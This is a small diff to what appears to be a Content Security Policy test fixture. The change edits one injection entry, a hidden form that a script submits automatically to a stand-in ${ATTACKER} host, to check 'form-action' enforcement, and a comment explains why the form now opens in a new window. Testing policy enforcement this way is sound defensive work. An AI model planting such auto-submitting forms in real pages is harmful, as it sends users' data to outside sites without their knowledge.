@@ -84,7 +84,8 @@ export const INJECTIONS: readonly Injection[] = [
   },
   {
     what: 'a form that posts to another site',
-    html: `<form id="bait" action="https://${ATTACKER}/form"><input name="a" value="1"></form>`,
+    // Into a window of its own: a page that is left may go before it has told of the violation.
+    html: `<form id="bait" target="_blank" action="https://${ATTACKER}/form"><input name="a" value="1"></form>`,
     script: `document.querySelector('#bait').submit()`,
     effect: { asked: '/form' },
     ...both('form-action'),
